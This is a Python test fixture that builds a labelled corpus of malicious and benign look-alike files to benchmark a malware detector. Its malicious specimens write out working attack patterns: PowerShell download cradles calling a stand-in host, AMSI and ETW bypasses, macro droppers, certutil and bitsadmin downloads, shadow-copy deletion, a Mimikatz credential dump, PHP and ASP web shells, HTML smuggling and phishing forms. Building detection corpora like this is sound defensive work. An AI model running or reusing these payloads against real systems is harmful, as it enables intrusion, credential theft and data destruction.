"""The labelled detection corpus, built at test time: malicious-pattern specimens and benign
look-alikes across formats, for `bench/detection.py` (every specimen through a real mesh) and
`tests/test_detection.py` (a subset).

Specimens reproduce the *patterns* of real attacks (the launchers, cradles and obfuscations seen
in the wild) with inert content: URLs under documentation ranges and example domains, payloads
that are harmless launchers. Benign ones are what an analyst's queue is full of and what a
pattern-matcher confuses with the former: admin scripts that download and schedule, macros that
format tables, installers, signed PEs, newsletters full of links.

`needs` names the service a specimen depends on that another helper (formats) is adding: the
bench reports the figures with and without those specimens.
"""

from __future__ import annotations

import base64
import gzip
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests import binaries
from tests.officedocs import paragraph, vba_project, word_document

MALICIOUS, BENIGN = "malicious", "benign"
C2 = "http://198.51.100.9"  # documentation range: never a real host
CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('{C2}/a.ps1')"


@dataclass(frozen=True)
class Specimen:
    name: str  # the file name submitted (or the sample value for a domain/IP/URI)
    label: str
    format: str  # the row it is counted under in the report
    build: Callable[[], bytes]  # built lazily: some need tools (signing) or packages
    kind: str = "file"  # file, domain, ip, uri
    needs: str = ""  # a service another helper adds (email, html, lnk); empty when built-ins suffice
    requires: str = ""  # a tool the build needs ("osslsigncode"); skipped with a reason when missing
    held_out: bool = False  # written after the scores were calibrated, and never used to tune them


def text(s: str) -> Callable[[], bytes]:
    return lambda: s.encode("utf-8")


def enc(command: str) -> str:
    """PowerShell's -EncodedCommand form: base64 of UTF-16LE."""
    return base64.b64encode(command.encode("utf-16-le")).decode()


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docm(macros: str, body: str = "Please enable content to view this document.") -> Callable[[], bytes]:
    return lambda: word_document(paragraph(body), vba=vba_project({"ThisDocument": macros}))


def _gzip_b64(s: str) -> str:
    return base64.b64encode(gzip.compress(s.encode())).decode()


def _xor_b64(s: str, key: int) -> str:
    return base64.b64encode(bytes(b ^ key for b in s.encode())).decode()


def _lnk(target: str, arguments: str) -> bytes:
    """A minimal shell link ([MS-SHLLINK]): header, no ID list, relative path and arguments as strings."""
    header = bytes.fromhex("4c000000") + bytes.fromhex("0114020000000000c000000000000046")
    flags = 0x08 | 0x20 | 0x80  # HasRelativePath, HasArguments, IsUnicode
    header += flags.to_bytes(4, "little") + bytes(4) + bytes(24) + bytes(4) + (7).to_bytes(4, "little") + bytes(2) + bytes(10)

    def string(value: str) -> bytes:
        return len(value).to_bytes(2, "little") + value.encode("utf-16-le")
    return header + string(target) + string(arguments)


def _eml(subject: str, sender: str, html: str) -> bytes:
    return (f"From: {sender}\r\nTo: user@example.org\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n").encode()


# -- malicious ----------------------------------------------------------------------------------
_PS_MALICIOUS = {
    "cradle.ps1": CRADLE,
    "encoded_cradle.txt": f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {enc(CRADLE)}",
    "amsi.ps1": "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\n" + CRADLE,
    "etw.ps1": "$p=[Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider').GetField('etwProvider','NonPublic,Static')\n"
               "[System.Diagnostics.Eventing.EventProvider].GetField('m_enabled','NonPublic,Instance').SetValue($p.GetValue($null),0)\n",
    "runkey.ps1": "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Updater "
                  f"-Value 'powershell -w hidden -enc {enc(CRADLE)}'\n",
    "dropper.ps1": f"$u='{C2}/payload.exe';$o=\"$env:TEMP\\svc.exe\"\n(New-Object System.Net.WebClient).DownloadFile($u,$o)\nStart-Process $o\n",
    "gzip_stage.ps1": "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + _gzip_b64(CRADLE) + "'))\n"
                      "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\n",
    "ticks_format.ps1": "&(\"{1}{0}\" -f 'X','IE') ((New-Object N`e`T.W`e`BcL`i`EnT).\"D`o`wnl`oadStr`ing\"('" + C2 + "/b.ps1'))\n",
    "charcodes.ps1": "$c=[char[]](73,69,88,32,40,78,101,119,45,79,98,106,101,99,116,32,78,101,116,46,87,101,98,67,108,105,101,110,116,41,46,68,"
                     "111,119,110,108,111,97,100,83,116,114,105,110,103,40,39,104,116,116,112,58,47,47,49,57,56,46,53,49,46,49,48,48,46,57,47,"
                     "99,46,112,115,49,39,41) -join ''\n& ([scriptblock]::Create($c))\n",
    "xor_stage.ps1": "$k=0x23\n$b=[Convert]::FromBase64String('" + _xor_b64(CRADLE, 0x23) + "')\n"
                     "$d=foreach($x in $b){$x -bxor $k}\nIEX ([Text.Encoding]::ASCII.GetString($d))\n",
    "ransom_prep.ps1": "Set-MpPreference -DisableRealtimeMonitoring $true\nvssadmin delete shadows /all /quiet\n"
                       "bcdedit /set {default} recoveryenabled no\nwevtutil cl System\n",
    "reflective.ps1": "$a=[System.Reflection.Assembly]::Load([Convert]::FromBase64String((New-Object Net.WebClient).DownloadString('"
                      + C2 + "/lib.txt')))\n$a.EntryPoint.Invoke($null,$null)\n",
    "mimikatz.ps1": "IEX (New-Object Net.WebClient).DownloadString('" + C2 + "/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -Command 'sekurlsa::logonpasswords'\n",
}
_JS_MALICIOUS = {
    "invoice.js": 'var s = new ActiveXObject("WScr"+"ipt.Sh"+"ell");\ns.Run("power"+"shell -w hidden -c " + "IEX (New-Object Net.WebClient)'
                  '.DownloadString(\'' + C2 + '/a.ps1\')", 0);\n',
    "xmlhttp_drop.js": 'var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "' + C2 + '/p.exe", false); x.send();\n'
                       'var st = new ActiveXObject("ADODB.Stream"); st.Type = 1; st.Open(); st.Write(x.responseBody);\n'
                       'st.SaveToFile("C:\\\\Users\\\\Public\\\\p.exe", 2); new ActiveXObject("WScript.Shell").Run("C:\\\\Users\\\\Public\\\\p.exe");\n',
    "charcode_eval.js": "eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in
                        'new ActiveXObject("WScript.Shell").Run("powershell -enc ' + enc(CRADLE) + '")') + "));\n",
    "reversed.js": 'var a = "llehS.tpircSW".split("").reverse().join("");\nvar o = new ActiveXObject(a);\n'
                   'o.Run("cmd /c powershell -nop -w hidden -c iwr ' + C2 + '/x.ps1 | iex");\n',
    "pe_dropper.js": lambda: ('var b64 = "' + base64.b64encode(binaries.launcher("t32.exe")).decode() + '";\n'
                              'var f = new ActiveXObject("Scripting.FileSystemObject");\n'
                              'new ActiveXObject("WScript.Shell").Run("%TEMP%\\\\upd.exe");\n'),
    "task.js": 'var sh = new ActiveXObject("WScript.Shell");\nsh.Run("schtasks /create /sc minute /mo 5 /tn Updater /tr \\"wscript '
               '%APPDATA%\\\\u.js\\"", 0);\nsh.RegWrite("HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\u", "wscript u.js");\n',
    "escapes.js": 'var c = "\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c";\nvar s = new ActiveXObject(c);\n'
                  's.Run("\\x6d\\x73\\x68\\x74\\x61\\x20\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x31\\x39\\x38\\x2e\\x35\\x31\\x2e\\x31\\x30\\x30\\x2e\\x39\\x2f\\x78\\x2e\\x68\\x74\\x61");\n',
}
_VBS_MALICIOUS = {
    "run_enc.vbs": f'Dim s\nSet s = CreateObject("WScript.Shell")\ns.Run "powershell -nop -w hidden -enc {enc(CRADLE)}", 0, False\n',
    "download.vbs": 'Dim x, st\nSet x = CreateObject("MSXML2.ServerXMLHTTP")\nx.Open "GET", "' + C2 + '/p.exe", False\nx.Send\n'
                    'Set st = CreateObject("ADODB.Stream")\nst.Type = 1\nst.Open\nst.Write x.responseBody\n'
                    'st.SaveToFile "C:\\Users\\Public\\p.exe", 2\nCreateObject("WScript.Shell").Run "C:\\Users\\Public\\p.exe"\n',
    "chr.vbs": "Dim o\nSet o = CreateObject(" + " & ".join(f"Chr({ord(c)})" for c in "WScript.Shell") + ")\n"
               'o.Run ' + " & ".join(f"Chr({ord(c)})" for c in f"powershell -c {CRADLE}") + ", 0\n",
    "strreverse.vbs": 'Dim o\nSet o = CreateObject(StrReverse("llehS.tpircSW"))\no.Run StrReverse("' + f"mshta {C2}/x.hta"[::-1] + '"), 0\n',
    "startup.vbs": 'Dim f, s\nSet s = CreateObject("WScript.Shell")\nSet f = CreateObject("Scripting.FileSystemObject")\n'
                   'f.CopyFile WScript.ScriptFullName, s.SpecialFolders("Startup") & "\\upd.vbs"\n'
                   's.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd", "wscript.exe " & WScript.ScriptFullName\n',
    "replace_exec.vbs": 'Dim c\nSet sh = CreateObject("WScript.Shell")\nc = Replace("poXXwershell -nop -w hidden -c iwr ' + C2 + '/s.ps1|iex", "XX", "")\n'
                        'sh.Run c, 0\n',
}
_BATCH_MALICIOUS = {
    "certutil.bat": f"@echo off\ncertutil -urlcache -split -f {C2}/u.exe %TEMP%\\u.exe\nstart %TEMP%\\u.exe\n",
    "bits.bat": f"@echo off\nbitsadmin /transfer job /download /priority high {C2}/u.exe %TEMP%\\u.exe\nstart %TEMP%\\u.exe\n",
    "carets.cmd": f"@echo off\nc^m^d /c p^o^w^e^r^s^h^e^l^l -w h^idden -e^nc {enc(CRADLE)}\n",
    "setvars.bat": "@echo off\nset a=pow\nset b=ershell\nset c= -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('"
                   + C2 + "/z.ps1')\"\n%a%%b%%c%\n",
    "wiper.bat": "@echo off\nvssadmin delete shadows /all /quiet\nwmic shadowcopy delete\nbcdedit /set {default} recoveryenabled no\n"
                 "wevtutil cl Security\n",
}
_HTA_MALICIOUS = {
    "invoice.hta": f'<html><head><hta:application id="a" windowstate="minimize"/></head><script language="VBScript">\n'
                   f'CreateObject("WScript.Shell").Run "powershell -nop -w hidden -enc {enc(CRADLE)}", 0\nself.close\n</script></html>\n',
    "xmlhttp.hta": '<html><head><hta:application id="b"/></head><script language="VBScript">\nSet x = CreateObject("Microsoft.XMLHTTP")\n'
                   'x.Open "GET", "' + C2 + '/s.vbs", False\nx.Send\nExecute x.responseText\n</script></html>\n',
    "jscript.hta": '<html><head><hta:application id="c"/></head><script language="JScript">\nvar s = new ActiveXObject("WScript.Shell");\n'
                   's.Run("cmd /c certutil -urlcache -f ' + C2 + '/d.exe %TEMP%\\\\d.exe && %TEMP%\\\\d.exe", 0);\nwindow.close();\n</script></html>\n',
}
_WSF_MALICIOUS = {
    "loader.wsf": '<?xml version="1.0"?>\n<package><job id="j"><script language="JScript">\nvar x = new ActiveXObject("MSXML2.XMLHTTP");\n'
                  'x.open("GET", "' + C2 + '/n.js", false); x.send(); eval(x.responseText);\n</script></job></package>\n',
    "runner.wsf": '<?xml version="1.0"?>\n<package><job id="r"><script language="VBScript">\nSet s = CreateObject("WScript.Shell")\n'
                  's.Run "regsvr32 /s /n /u /i:' + C2 + '/f.sct scrobj.dll", 0\n</script></job></package>\n',
}
_MACROS_MALICIOUS = {
    "invoice.docm": 'Sub AutoOpen()\n    Dim c As String\n    c = "powershell -nop -w hidden -c ""IEX (New-Object Net.WebClient).DownloadString(\'' + C2
                    + '/a.ps1\')"""\n    Shell c, vbHide\nEnd Sub\n',
    "order.docm": 'Sub Document_Open()\n    Set s = CreateObject("WScript.Shell")\n    s.Run "powershell -enc ' + enc(CRADLE) + '", 0\nEnd Sub\n',
    "chr_macro.docm": "Sub AutoOpen()\n    Dim p As String\n    p = " + " & ".join(f"Chr({ord(c)})" for c in "cmd /c powershell -w hidden iwr "
                                                                                     + C2 + "/q.ps1|iex") + "\n    Shell p, 0\nEnd Sub\n",
    "urldownload.docm": 'Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr, '
                        'ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\n'
                        'Sub AutoOpen()\n    URLDownloadToFile 0, "' + C2 + '/x.exe", Environ("TEMP") & "\\x.exe", 0, 0\n'
                        '    Shell Environ("TEMP") & "\\x.exe", vbHide\nEnd Sub\n',
    "vbs_writer.docm": 'Sub Document_Open()\n    Open Environ("TEMP") & "\\u.vbs" For Output As #1\n'
                       '    Print #1, "CreateObject(""WScript.Shell"").Run ""mshta ' + C2 + '/x.hta"", 0"\n    Close #1\n'
                       '    Shell "wscript.exe " & Environ("TEMP") & "\\u.vbs", vbHide\nEnd Sub\n',
}
_WEBSHELLS = {
    "shell.php": "<?php if(isset($_POST['c'])){ echo shell_exec($_POST['c']); } ?>\n",
    "b64.php": "<?php eval(gzinflate(base64_decode('" + base64.b64encode(__import__("zlib").compress(b"system($_GET['x']);")[2:-4]).decode()
               + "'))); ?>\n",
    "cmd.asp": '<%@ Language=VBScript %>\n<% Set s = CreateObject("WScript.Shell")\neval(Request("cmd")) %>\n',
}


def _renamed_pe(name: str) -> Specimen:
    return Specimen(name, MALICIOUS, "pe", lambda: binaries.launcher("t32.exe"))


def _upx_like() -> bytes:
    """A launcher whose sections were renamed as UPX names them and made writable+executable."""
    import pefile

    pe = pefile.PE(data=binaries.launcher("t32.exe"))
    for section, name in zip(pe.sections, (b"UPX0", b"UPX1", b"UPX2"), strict=False):
        section.Name = name.ljust(8, b"\x00")
        section.Characteristics |= 0x80000000 | 0x20000000
    return bytes(pe.write())


MALICIOUS_SPECIMENS: list[Specimen] = [
    *(Specimen(n, MALICIOUS, "powershell", text(s)) for n, s in _PS_MALICIOUS.items()),
    *(Specimen(n, MALICIOUS, "javascript", (lambda f=s: f().encode()) if callable(s) else text(s)) for n, s in _JS_MALICIOUS.items()),
    *(Specimen(n, MALICIOUS, "vbscript", text(s)) for n, s in _VBS_MALICIOUS.items()),
    *(Specimen(n, MALICIOUS, "batch", text(s)) for n, s in _BATCH_MALICIOUS.items()),
    *(Specimen(n, MALICIOUS, "hta", text(s)) for n, s in _HTA_MALICIOUS.items()),
    *(Specimen(n, MALICIOUS, "wsf", text(s)) for n, s in _WSF_MALICIOUS.items()),
    *(Specimen(n, MALICIOUS, "office", docm(s)) for n, s in _MACROS_MALICIOUS.items()),
    *(Specimen(n, MALICIOUS, "webshell", text(s)) for n, s in _WEBSHELLS.items()),
    _renamed_pe("invoice_2024.pdf.exe"),
    _renamed_pe("scan\u202efdp.exe"),
    _renamed_pe("photo.jpg                          .scr"),
    Specimen("packed.exe", MALICIOUS, "pe", _upx_like),
    Specimen("invoice.zip", MALICIOUS, "archive", lambda: _zip({"invoice_2024.pdf.exe": binaries.launcher("t32.exe")})),
    Specimen("patched_installer.exe", MALICIOUS, "pe", lambda: binaries.tampered(binaries.signed(binaries.launcher("w64.exe"))),
             requires="osslsigncode"),
    Specimen("upx_elf", MALICIOUS, "elf", lambda: binaries.elf(bytes(range(256)) * 16, sections=False, marker=b"UPX!")),
    Specimen("bot_elf", MALICIOUS, "elf", lambda: binaries.elf(b"/bin/busybox MIRAI\x00POST /cdn-cgi/\x00/dev/watchdog\x00", sections=False)),
    Specimen("miner_elf", MALICIOUS, "elf", lambda: binaries.elf(b"stratum+tcp://pool.example.net:3333\x00xmrig\x00/etc/ld.so.preload\x00")),
    Specimen("payload.txt", MALICIOUS, "encoded", lambda: base64.encodebytes(binaries.launcher("t32.exe"))),
    Specimen("payload_hex.txt", MALICIOUS, "encoded", lambda: binaries.launcher("t32.exe")[:4096].hex().encode()),
    Specimen("smuggle.html", MALICIOUS, "html", text(
        "<html><body><script>\nvar d = atob('" + base64.b64encode(_zip({"a.js": b"WScript.Echo(1)"})).decode() + "');\n"
        "var a = new Uint8Array(d.length); for (var i = 0; i < d.length; i++) { a[i] = d.charCodeAt(i); }\n"
        "var b = new Blob([a], {type: 'application/zip'}); var l = document.createElement('a');\n"
        "l.href = URL.createObjectURL(b); l.download = 'invoice.zip'; document.body.appendChild(l); l.click();\n</script></body></html>\n")),
    Specimen("smuggle_ms.html", MALICIOUS, "html", text(
        "<html><body><script>\nfunction s(){ var raw = atob('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAA');\n"
        "var blob = new Blob([raw], {type:'application/octet-stream'});\nif (window.navigator.msSaveOrOpenBlob) "
        "{ window.navigator.msSaveOrOpenBlob(blob, 'update.exe'); }\n}\ns();\n</script></body></html>\n")),
    Specimen("login-microsoftonline.com.secure-auth.top", MALICIOUS, "domain", text("login-microsoftonline.com.secure-auth.top"), kind="domain"),
    Specimen("xn--pypal-4ve.com", MALICIOUS, "domain", text("xn--pypal-4ve.com"), kind="domain"),
    Specimen("paypa1-secure-login.com", MALICIOUS, "domain", text("paypa1-secure-login.com"), kind="domain"),
    Specimen("appleid-verify-account.xyz", MALICIOUS, "domain", text("appleid-verify-account.xyz"), kind="domain"),
    Specimen("http://198.51.100.9/a.ps1", MALICIOUS, "uri", text("http://198.51.100.9/a.ps1"), kind="uri"),
    Specimen("https://paypal.com@evil.example/login", MALICIOUS, "uri", text("https://paypal.com@evil.example/login"), kind="uri"),
    Specimen("http://login-microsoftonline.com.secure-auth.top/owa", MALICIOUS, "uri",
             text("http://login-microsoftonline.com.secure-auth.top/owa"), kind="uri"),
    # Formats another helper adds services for (HTML forms, e-mail, LNK): counted apart.
    Specimen("signin.html", MALICIOUS, "html-phishing", text(
        '<html><head><title>Sign in to your account</title></head><body><img src="https://logincdn.msftauth.net/logo.svg">'
        '<form method="post" action="https://collect.secure-auth.top/p.php"><input name="loginfmt" type="email">'
        '<input name="passwd" type="password"><button>Sign in</button></form></body></html>\n'), needs="html"),
    Specimen("verify.html", MALICIOUS, "html-phishing", text(
        '<html><body><h2>PayPal</h2><p>Your account has been limited. Confirm your identity.</p>'
        '<form action="http://198.51.100.23/paypal/confirm.php" method="POST"><input name="email"><input type="password" name="pw">'
        '<input name="card"><input type="submit" value="Confirm"></form></body></html>\n'), needs="html"),
    Specimen("account_suspended.eml", MALICIOUS, "email", lambda: _eml(
        "Your mailbox is suspended", "Microsoft Account <no-reply@secure-auth.top>",
        '<p>Your mailbox will be deleted. <a href="http://login-microsoftonline.com.secure-auth.top/verify">Verify now</a></p>'), needs="email"),
    Specimen("invoice_payment.eml", MALICIOUS, "email", lambda: _eml(
        "Invoice overdue", "Accounts <billing@paypa1-secure-login.com>",
        '<p>Pay your invoice: <a href="http://198.51.100.9/invoice.hta">invoice.pdf</a></p>'), needs="email"),
    Specimen("Invoice.pdf.lnk", MALICIOUS, "lnk", lambda: _lnk("..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                                                 f"-w hidden -enc {enc(CRADLE)}"), needs="lnk"),
    Specimen("Document.lnk", MALICIOUS, "lnk", lambda: _lnk("..\\..\\Windows\\System32\\mshta.exe", f"{C2}/x.hta"), needs="lnk"),
]

# -- benign -------------------------------------------------------------------------------------
_PS_BENIGN = {
    "services_report.ps1": "Get-Service | Where-Object {$_.Status -eq 'Running'} | Sort-Object Name |\n"
                           "  Export-Csv -Path C:\\Reports\\services.csv -NoTypeInformation\nWrite-Host 'Report written'\n",
    "new_users.ps1": "Import-Module ActiveDirectory\n$users = Import-Csv .\\users.csv\nforeach ($u in $users) {\n"
                     "  New-ADUser -Name $u.Name -SamAccountName $u.Login -Enabled $true -Path 'OU=Staff,DC=corp,DC=example'\n}\n",
    "cleanup.ps1": "$limit = (Get-Date).AddDays(-30)\nGet-ChildItem -Path C:\\Temp -Recurse | Where-Object { $_.LastWriteTime -lt $limit } |\n"
                   "  Remove-Item -Force -Recurse\nWrite-Output \"Removed files older than $limit\"\n",
    "backup.ps1": "param([string]$Target = 'D:\\Backup')\nrobocopy C:\\Data $Target /MIR /R:2 /W:5 /LOG:C:\\Logs\\backup.log\n"
                  "if ($LASTEXITCODE -ge 8) { Write-Error 'Backup failed' }\n",
    "api_status.ps1": "$r = Invoke-RestMethod -Uri 'https://status.example.com/api/v2/summary.json' -Method Get\n"
                      "$r.components | Select-Object name, status | Format-Table\n",
    "rotate_logs.ps1": "Get-ChildItem C:\\inetpub\\logs\\*.log | Where-Object { $_.Length -gt 100MB } | ForEach-Object {\n"
                       "  Compress-Archive -Path $_.FullName -DestinationPath \"$($_.FullName).zip\"; Remove-Item $_.FullName }\n",
    "install_tools.ps1": "Install-Module -Name PSWindowsUpdate -Scope CurrentUser -Force\n"
                         "Invoke-WebRequest -Uri 'https://downloads.example.com/tools/agent-setup.msi' -OutFile \"$env:TEMP\\agent.msi\"\n"
                         "Start-Process msiexec.exe -ArgumentList '/i', \"$env:TEMP\\agent.msi\", '/qn' -Wait\n",
    "maintenance_task.ps1": "$a = New-ScheduledTaskAction -Execute 'PowerShell.exe' -Argument '-File C:\\Scripts\\cleanup.ps1'\n"
                            "$t = New-ScheduledTaskTrigger -Daily -At 3am\nRegister-ScheduledTask -TaskName 'Nightly cleanup' -Action $a -Trigger $t\n",
    "config_b64.ps1": "$cfg = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
                      + base64.b64encode(b'{"server": "intranet.example.com", "port": 8443, "retries": 3}').decode() + "'))\n"
                      "$settings = $cfg | ConvertFrom-Json\nWrite-Host $settings.server\n",
    "disk_report.ps1": "Get-CimInstance Win32_LogicalDisk | Select-Object DeviceID, @{n='FreeGB';e={[math]::Round($_.FreeSpace/1GB,1)}} |\n"
                       "  Format-Table -AutoSize\n",
}
_JS_BENIGN = {
    "validate.js": "function validate(form) {\n  var email = form.email.value;\n  if (!/^[^@]+@[^@]+$/.test(email)) {\n"
                   "    alert('Please enter a valid e-mail address');\n    return false;\n  }\n  return true;\n}\n",
    "analytics.js": "(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});\n"
                    "var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i;\n"
                    "f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-XXXX');\n",
    "build.js": "const fs = require('fs');\nconst path = require('path');\nconst out = path.join(__dirname, 'dist');\n"
                "if (!fs.existsSync(out)) fs.mkdirSync(out);\nfs.copyFileSync('index.html', path.join(out, 'index.html'));\nconsole.log('built');\n",
    "caesar.js": "function rot13(s) {\n  return s.replace(/[a-z]/gi, function (c) {\n    var b = c <= 'Z' ? 65 : 97;\n"
                 "    return String.fromCharCode((c.charCodeAt(0) - b + 13) % 26 + b);\n  });\n}\nconsole.log(rot13('Hello'));\n",
    "chart.js": "var ctx = document.getElementById('sales').getContext('2d');\nvar data = [12, 19, 3, 5, 2, 3];\n"
                "data.forEach(function (v, i) { ctx.fillRect(i * 30, 100 - v * 5, 20, v * 5); });\n",
    "menu.js": "document.addEventListener('DOMContentLoaded', function () {\n  var t = document.querySelector('.toggle');\n"
               "  t.addEventListener('click', function () { document.body.classList.toggle('menu-open'); });\n});\n",
}
_VBS_BENIGN = {
    "logon.vbs": 'Dim net\nSet net = CreateObject("WScript.Network")\nnet.MapNetworkDrive "H:", "\\\\fileserver\\home\\" & net.UserName\n'
                 'net.AddWindowsPrinterConnection "\\\\printserver\\Floor2"\n',
    "inventory.vbs": 'Dim wmi, os\nSet wmi = GetObject("winmgmts:\\\\.\\root\\cimv2")\n'
                     'For Each os In wmi.ExecQuery("Select * from Win32_OperatingSystem")\n  WScript.Echo os.Caption & " " & os.Version\nNext\n',
    "cleanup.vbs": 'Dim fso, f\nSet fso = CreateObject("Scripting.FileSystemObject")\n'
                   'For Each f In fso.GetFolder("C:\\Temp").Files\n  If DateDiff("d", f.DateLastModified, Now) > 30 Then f.Delete\nNext\n',
    "ipconfig.vbs": 'Dim sh\nSet sh = CreateObject("WScript.Shell")\nsh.Run "cmd /c ipconfig /flushdns", 0, True\nWScript.Echo "DNS cache flushed"\n',
    "greeting.vbs": 'Dim name\nname = InputBox("Your name?")\nMsgBox "Hello " & name & ", welcome to the team!"\n',
}
_BATCH_BENIGN = {
    "build.bat": "@echo off\nsetlocal\nset CONFIG=Release\nmsbuild Solution.sln /p:Configuration=%CONFIG% /m\nif errorlevel 1 exit /b 1\n",
    "backup.bat": "@echo off\nxcopy C:\\Data D:\\Backup\\Data /E /I /Y /D\necho Backup finished at %TIME%\n",
    "flushdns.bat": "@echo off\nipconfig /flushdns\nipconfig /registerdns\necho Done.\npause\n",
    "install.bat": "@echo off\nmsiexec /i \"%~dp0agent-setup.msi\" /qn /norestart\nif %errorlevel% neq 0 echo Install failed\n",
    "vars.bat": "@echo off\nset NAME=world\nset GREETING=Hello\necho %GREETING%, %NAME%!\n",
    "schedule.bat": "@echo off\nschtasks /create /tn \"Nightly backup\" /tr \"C:\\Scripts\\backup.bat\" /sc daily /st 02:00 /ru SYSTEM\n",
}
_MACROS_BENIGN = {
    "table_format.docm": "Sub FormatTables()\n    Dim t As Table\n    For Each t In ActiveDocument.Tables\n        t.Style = \"Grid Table 4\"\n"
                         "    Next t\nEnd Sub\n",
    "welcome.docm": "Sub AutoOpen()\n    MsgBox \"Welcome! Fill in the form and save it as PDF.\"\nEnd Sub\n",
    "save_pdf.docm": "Sub SaveAsPdf()\n    ActiveDocument.ExportAsFixedFormat OutputFileName:=Replace(ActiveDocument.FullName, \".docm\", \".pdf\"), "
                     "ExportFormat:=wdExportFormatPDF\nEnd Sub\n",
    "totals.docm": "Function Total(a As Double, b As Double) As Double\n    Total = a + b\nEnd Function\n"
                   "Sub Document_Open()\n    ActiveDocument.Fields.Update\nEnd Sub\n",
    "notepad.docm": "Sub OpenNotes()\n    Shell \"notepad.exe C:\\Notes\\readme.txt\", vbNormalFocus\nEnd Sub\n",
}
_NEWSLETTER_LINKS = "".join(f'<li><a href="https://news.example.com/2024/{i:02d}/story-{i}.html">Story {i}</a></li>' for i in range(60))

BENIGN_SPECIMENS: list[Specimen] = [
    *(Specimen(n, BENIGN, "powershell", text(s)) for n, s in _PS_BENIGN.items()),
    *(Specimen(n, BENIGN, "javascript", text(s)) for n, s in _JS_BENIGN.items()),
    *(Specimen(n, BENIGN, "vbscript", text(s)) for n, s in _VBS_BENIGN.items()),
    *(Specimen(n, BENIGN, "batch", text(s)) for n, s in _BATCH_BENIGN.items()),
    *(Specimen(n, BENIGN, "office", docm(s, "Quarterly report")) for n, s in _MACROS_BENIGN.items()),
    Specimen("plain.docx", BENIGN, "office", lambda: word_document(paragraph("Minutes of the meeting") + paragraph("All agreed."))),
    Specimen("setup_ui.hta", BENIGN, "hta", text('<html><head><title>Setup</title><hta:application id="s" border="thin"/></head>'
                                                 '<script language="VBScript">\nSub RunSetup\n  CreateObject("WScript.Shell").Run "setup.exe /passive"\n'
                                                 'End Sub\n</script><body><button onclick="RunSetup">Install</button></body></html>\n')),
    Specimen("about.hta", BENIGN, "hta", text('<html><head><hta:application id="ab"/></head><script language="VBScript">\n'
                                              'Sub Window_OnLoad\n  MsgBox "Inventory tool 2.1"\nEnd Sub\n</script><body>About</body></html>\n')),
    Specimen("list_files.wsf", BENIGN, "wsf", text('<?xml version="1.0"?>\n<package><job id="l"><script language="VBScript">\n'
                                                   'Set fso = CreateObject("Scripting.FileSystemObject")\nFor Each f In fso.GetFolder(".").Files\n'
                                                   '  WScript.Echo f.Name\nNext\n</script></job></package>\n')),
    Specimen("report.wsf", BENIGN, "wsf", text('<?xml version="1.0"?>\n<package><job id="r"><script language="JScript">\n'
                                               'var n = new ActiveXObject("WScript.Network");\nWScript.Echo("User: " + n.UserName + " on " + n.ComputerName);\n'
                                               '</script></job></package>\n')),
    Specimen("t32.exe", BENIGN, "pe", lambda: binaries.launcher("t32.exe")),
    Specimen("t64.exe", BENIGN, "pe", lambda: binaries.launcher("t64.exe")),
    Specimen("w32.exe", BENIGN, "pe", lambda: binaries.launcher("w32.exe")),
    Specimen("setup.exe", BENIGN, "pe", lambda: binaries.launcher("w64.exe")),
    Specimen("signed_tool.exe", BENIGN, "pe", lambda: binaries.signed(binaries.launcher("t64.exe")), requires="osslsigncode"),
    Specimen("signed_setup.exe", BENIGN, "pe", lambda: binaries.signed(binaries.launcher("w32.exe"), "Contoso Installers Inc"),
             requires="osslsigncode"),
    Specimen("Python.Runtime.dll", BENIGN, "dotnet", binaries.dotnet_assembly),
    Specimen("tools.zip", BENIGN, "archive", lambda: _zip({"setup.exe": binaries.launcher("w64.exe"), "readme.txt": b"Run setup.exe\n"})),
    Specimen("hello_elf", BENIGN, "elf", lambda: binaries.elf()),
    Specimen("hello_macho", BENIGN, "macho", lambda: binaries.macho()),
    Specimen("newsletter.txt", BENIGN, "text", text("This month's news\n" + "\n".join(
        f"* Story {i}: https://news.example.com/2024/{i:02d}/story.html" for i in range(40)) + "\nUnsubscribe: https://news.example.com/u\n")),
    Specimen("README.md", BENIGN, "text", text("# Tool 2.4.1.0\n\nRequires Python 3.11.4. Download from https://github.com/example/tool/releases.\n"
                                                "Version 1.1.0.14 fixed the proxy (see https://docs.example.org/proxy).\nOID 1.3.6.1.4.1.311.2.1.21\n")),
    Specimen("access.log", BENIGN, "text", text("\n".join(
